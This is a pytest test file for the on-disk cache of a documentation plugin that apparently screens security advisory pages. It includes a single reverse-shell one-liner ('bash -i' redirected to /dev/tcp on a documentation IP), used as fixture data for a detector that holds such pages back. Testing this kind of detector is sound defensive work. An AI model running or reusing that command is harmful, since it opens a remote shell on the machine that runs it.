"""The judging cache on disk (issue 19): a page whose source did not change is not scanned
again across builds; clock rules still run; the verdicts, reports and ledger are the same
with a cold cache, a warm cache and no cache; a cache file that cannot be used is ignored
with one warning and never trusted."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from mkdocs_threatpub.core.context import Settings
from mkdocs_threatpub.pipeline.build import Build, PageSource
from mkdocs_threatpub.pipeline.cache import cache_file_name, cache_key
from mkdocs_threatpub.pipeline.options import Options, SiteLayout
from mkdocs_threatpub.pipeline.parallel import MIN_PAGES_PER_WORKER
from tests.conftest import BIN, NOW_EPOCH, Site, make_site, mkdocs, threatpub, threatpub_process
from tests.test_parallel_and_cache import _page

DAY = 86_400

SCHEDULED = """\
---
title: Scheduled advisory
threatpub:
  kind: vulnerability
  published: 2026-11-24T09:00+08:00
  target:
    operator: Example Vendor
    system: EX gateway
  repair:
    status: fixed
    date: 2026-10-28
---

# Scheduled advisory

The parser of EX mishandles a crafted header. Upgrade to 2.4.1.
"""

SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
HELD = _page(5)  # n % 11 == 5: a reverse shell in a code block (CAC402, held)


def _cache_files(root: Path) -> list[Path]:
    return sorted((root / ".threatpub" / "cache").glob("pages-*.json"))


def _report(result: subprocess.CompletedProcess[str]) -> dict:
    report = json.loads(result.stdout)
    assert isinstance(report, dict)
    return report


def _generated(root: Path, pages: int) -> Site:
    site = make_site(root, {})
    for n in range(pages):
        site.write(f"part-{n % 3}/advisory-{n:04d}.md", _page(n))
    return site


# -- the same report, cold, warm and without the cache --------------------------------------


def test_example_site_report_is_the_same_cold_warm_and_without_cache(
    example_site: Site,
) -> None:
    root = example_site.root
    cold = threatpub("check", "--format", "json", "--jobs", "1", cwd=root)
    assert _cache_files(root), "the first check writes the cache beside mkdocs.yml"
    warm = threatpub("check", "--format", "json", "--jobs", "1", cwd=root)
    none = threatpub("check", "--format", "json", "--no-cache", cwd=root)
    assert cold.returncode == warm.returncode == none.returncode == 1
    assert "warning" not in cold.stderr + warm.stderr
    # Byte-identical (the report's `now` is SOURCE_DATE_EPOCH, the same in all three).
    assert cold.stdout == warm.stdout == none.stdout
    assert _report(cold)["summary"] == _report(none)["summary"]


def test_generated_pages_report_is_the_same_cold_warm_without_cache_and_parallel(
    tmp_path: Path,
) -> None:
    site = _generated(tmp_path / "s", 2 * MIN_PAGES_PER_WORKER + 30)
    args = ("check", "--format", "json")
    cold = threatpub(*args, "--jobs", "2", cwd=site.root)  # workers fill the cache
    warm_serial = threatpub(*args, "--jobs", "1", cwd=site.root)
    warm_parallel = threatpub(*args, "--jobs", "2", cwd=site.root)
    none = threatpub(*args, "--jobs", "1", "--no-cache", cwd=site.root)
    assert cold.stdout == warm_serial.stdout == warm_parallel.stdout == none.stdout
    verdicts = {p["verdict"] for p in _report(none)["pages"]}
    assert {"publish", "hold", "fail"} <= verdicts
    entries = json.loads(_cache_files(site.root)[0].read_bytes().split(b"\n", 1)[1])
    assert len(entries) == 2 * MIN_PAGES_PER_WORKER + 30  # every worker's pages came back


def _build(root: Path, now: str = "2026-11-23T10:00+08:00") -> Build:
    import datetime as dt

    options = Options(settings=Settings(timezone="Asia/Shanghai"), cache_dir=".threatpub/cache")
    layout = SiteLayout(root / "mkdocs.yml", root / "docs", root / "site")
    return Build(options, layout, dt.datetime.fromisoformat(now))


def test_only_the_changed_page_is_judged_again(tmp_path: Path) -> None:
    site = _generated(tmp_path / "s", 20)
    sources = [
        PageSource(p.relative_to(site.docs).as_posix(), str(p)) for p in site.docs.rglob("*.md")
    ]
    first = _build(site.root)
    first.judge(sources)
    assert (first.judge_.stats.judged, first.judge_.stats.reused) == (20, 0)
    site.write("part-0/advisory-0000.md", _page(0) + "\nOne more line.\n")
    second = _build(site.root)
    second.judge(sources)
    assert (second.judge_.stats.judged, second.judge_.stats.reused) == (1, 19)
    assert not second.warnings


# -- clock rules run again ------------------------------------------------------------------


def test_a_cached_scheduled_page_publishes_on_its_day(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s", {"advisories/scheduled.md": SCHEDULED})
    today = threatpub("check", "--format", "json", cwd=site.root)
    assert today.returncode == 1
    (page,) = _report(today)["pages"]
    assert page["verdict"] == "hold"
    assert [f["code"] for f in page["findings"]] == ["META006"]
    assert _cache_files(site.root)
    # Judged "tomorrow" from the warm cache: META006 (a clock rule) runs again.
    tomorrow = threatpub("check", "--format", "json", cwd=site.root, now_epoch=NOW_EPOCH + DAY)
    assert tomorrow.returncode == 0, tomorrow.stdout + tomorrow.stderr
    (page,) = _report(tomorrow)["pages"]
    assert page["verdict"] == "publish"
    assert page["findings"] == []


# -- a cache file that cannot be used ---------------------------------------------------------


def _spoil(file: Path, how: str) -> None:
    data = file.read_bytes()
    if how == "corrupt":
        file.write_bytes(b"\x00\xff not json at all")
    elif how == "truncated":
        file.write_bytes(data[: len(data) // 2])
    elif how == "tampered":
        header, body = data.split(b"\n", 1)
        file.write_bytes(header + b"\n" + body.replace(b'"CAC402"', b'"CAC999"'))
    elif how == "foreign":
        header, body = data.split(b"\n", 1)
        meta = json.loads(header)
        meta["key"] = "0.0.1/other/settings"
        file.write_bytes(json.dumps(meta).encode() + b"\n" + body)
    elif how == "unreadable":
        file.unlink()
        file.mkdir()
    else:  # pragma: no cover
        raise AssertionError(how)


@pytest.mark.parametrize(
    ("how", "why"),
    [
        ("corrupt", "it is not a threatpub cache file"),
        ("truncated", "it was cut short or changed after it was written"),
        ("tampered", "it was cut short or changed after it was written"),
        ("foreign", "it was made by another threatpub version or under other settings"),
        ("unreadable", "cannot read it"),
    ],
)
def test_a_cache_file_that_cannot_be_used_is_ignored_with_one_warning(
    tmp_path: Path, how: str, why: str
) -> None:
    site = make_site(tmp_path / "s", {"advisories/held.md": HELD, "index.md": "# Home\n"})
    expected = threatpub("check", "--format", "json", "--no-cache", cwd=site.root)
    threatpub("check", "--format", "json", cwd=site.root)
    (file,) = _cache_files(site.root)
    _spoil(file, how)
    result = threatpub("check", "--format", "json", cwd=site.root)
    assert result.returncode == expected.returncode == 1
    assert result.stdout == expected.stdout  # nothing in the file was trusted
    warnings = [line for line in result.stderr.splitlines() if "warning" in line]
    assert len(warnings) == 1, result.stderr
    assert str(file) in warnings[0]
    assert why in warnings[0]
    if how != "unreadable":
        # Replaced by a good file: the next run uses it without a word.
        again = threatpub("check", "--format", "json", cwd=site.root)
        assert again.stdout == expected.stdout
        assert "warning" not in again.stderr


def test_a_cache_of_other_settings_is_another_file(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s", {"advisories/held.md": HELD})
    threatpub("check", cwd=site.root)
    make_site(site.root, {}, {"scan_all_pages": False})
    result = threatpub("check", cwd=site.root)
    assert "warning" not in result.stderr  # an upgrade or a settings change: no warning
    assert len(_cache_files(site.root)) == 2
    assert cache_file_name(cache_key("a")) != cache_file_name(cache_key("b"))


# -- what the file holds -------------------------------------------------------------------


def test_the_cache_holds_no_page_text(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s", {"advisories/held.md": HELD})
    report = _report(threatpub("check", "--format", "json", cwd=site.root))
    data = _cache_files(site.root)[0].read_text(encoding="utf-8")
    # The rule's own words ("reverse shell (/dev/tcp redirection)") are in the report too;
    # the content itself is not.
    assert SHELL not in data
    assert "203.0.113.5" not in data
    assert "mishandles a crafted header" not in data  # not even harmless text
    # What is there: the hit (rule, detector, line, the rule's description) and a hash.
    (entry,) = json.loads(data.split("\n", 1)[1]).values()
    (hit,) = entry["scan"]["hits"]
    assert hit[:3] == ["CAC402", "reverse-shell", 19]
    assert len(hit[5]) >= 16
    assert set(hit[5]) <= set("0123456789abcdef")
    assert [f["code"] for f in report["pages"][0]["findings"]] == ["CAC402"]


# -- options ---------------------------------------------------------------------------------


def test_cache_dir_false_and_no_cache_write_nothing(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s", {"advisories/held.md": HELD}, {"cache_dir": False})
    threatpub("check", cwd=site.root)
    assert not (site.root / ".threatpub" / "cache").exists()
    other = make_site(tmp_path / "o", {"advisories/held.md": HELD})
    threatpub("check", "--no-cache", cwd=other.root)
    assert not (other.root / ".threatpub" / "cache").exists()


def test_cache_dir_option_and_flag_choose_the_folder(tmp_path: Path) -> None:
    site = make_site(tmp_path / "s", {"advisories/held.md": HELD}, {"cache_dir": "build-cache"})
    threatpub("check", cwd=site.root)
    assert list((site.root / "build-cache").glob("pages-*.json"))
    threatpub("check", "--cache-dir", str(tmp_path / "elsewhere"), cwd=site.root)
    assert list((tmp_path / "elsewhere").glob("pages-*.json"))


@pytest.mark.parametrize(
    ("value", "message"),
    [(123, "expected a folder"), ("docs/cache", "docs_dir")],
)
def test_a_bad_cache_dir_is_refused(tmp_path: Path, value: object, message: str) -> None:
    site = make_site(tmp_path / "s", {"index.md": "# Home\n"}, {"cache_dir": value})
    result = threatpub("check", cwd=site.root)
    assert result.returncode == 2, result.stderr
    assert "cache_dir" in result.stderr
    assert message in result.stderr


def test_parallel_processes_leave_a_whole_file(tmp_path: Path) -> None:
    site = _generated(tmp_path / "s", 40)
    runs = [
        subprocess.Popen(
            [str(BIN / "threatpub"), "check", "--jobs", "1"],
            cwd=site.root,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(3)
    ]
    for run in runs:
        _, err = run.communicate(timeout=120)
        assert "warning" not in err
    result = threatpub_process("check", cwd=site.root)
    assert "warning" not in result.stderr
    assert not list((site.root / ".threatpub" / "cache").glob("*.tmp"))


# -- a real build -------------------------------------------------------------------------


@pytest.mark.slow
def test_a_build_after_a_one_page_change_judges_one_page(tmp_path: Path) -> None:
    site = _generated(tmp_path / "s", 12)
    site.write("index.md", "# Home\n")
    first = mkdocs(site, "build")
    assert "judged 13 page(s), reused 0 unchanged page(s) from the cache" in first.stderr
    report = (site.root / ".threatpub" / "report.json").read_text()
    site.write("part-1/advisory-0004.md", _page(4) + "\nOne more line.\n")
    second = mkdocs(site, "build")
    assert "judged 1 page(s), reused 12 unchanged page(s) from the cache" in second.stderr
    # The same decisions as a build without the cache.
    site.write("part-1/advisory-0004.md", _page(4))
    make_site(site.root, {}, {"cache_dir": False})
    third = mkdocs(site, "build")
    assert third.returncode == first.returncode
    assert "reused" not in third.stderr
    assert _pages(report) == _pages((site.root / ".threatpub" / "report.json").read_text())


def _pages(report: str) -> list[dict]:
    pages = json.loads(report)["pages"]
    assert isinstance(pages, list)
    return pages
